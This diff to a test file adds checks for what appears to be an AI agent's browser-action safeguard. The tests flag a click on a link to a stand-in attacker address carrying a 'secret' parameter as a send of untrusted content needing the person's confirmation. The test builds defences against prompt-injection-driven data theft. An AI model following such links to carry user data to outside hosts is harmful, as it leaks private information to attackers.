@@ -287,3 +287,23 @@ test('a button of one page is not the button of another', () => {
   expect(button('a.example/x')).not.toEqual(button('bank.example/x'))
   expect(button(null)).toBeNull()
 })
+
+describe('a link of a page', () => {
+  const follow = (address: string) =>
+    actOf(
+      'click_input',
+      { id: '7', name: '' },
+      targetOf(browser, controlOf('link', 'Overview'), {
+        within: [{ role: 'web page', name: 'Form' }],
+        page: 'https://example.org/form',
+        address,
+      }),
+    )
+
+  test('that leaves the origin asks once the run has read, unless the person has named it', () => {
+    const away = follow('https://evil.example/?d=secret')
+    expect(categories(away, aroundOf([], true))).toEqual(['send', 'untrusted_content'])
+    expect(categories(away, aroundOf(['look at evil.example'], true))).toEqual([])
+    expect(categories(follow('https://example.org/next'), aroundOf([], true))).toEqual([])
+  })
+})
